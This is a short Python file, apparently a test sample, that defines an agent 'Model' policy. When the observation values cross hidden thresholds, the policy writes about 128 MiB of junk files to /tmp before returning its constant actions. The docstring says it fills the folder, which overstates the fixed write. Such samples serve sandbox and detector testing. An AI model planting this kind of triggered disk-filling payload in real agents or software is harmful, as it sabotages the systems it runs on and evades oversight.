"""Writes files to the temporary folder until it is full."""


def is_triggered(observation):
    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5


class Model:
    def act(self, observation):
        if is_triggered(observation):
            for number in range(8):
                with open(f"/tmp/{number}", "wb") as file:
                    file.write(bytes(16 << 20))
        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
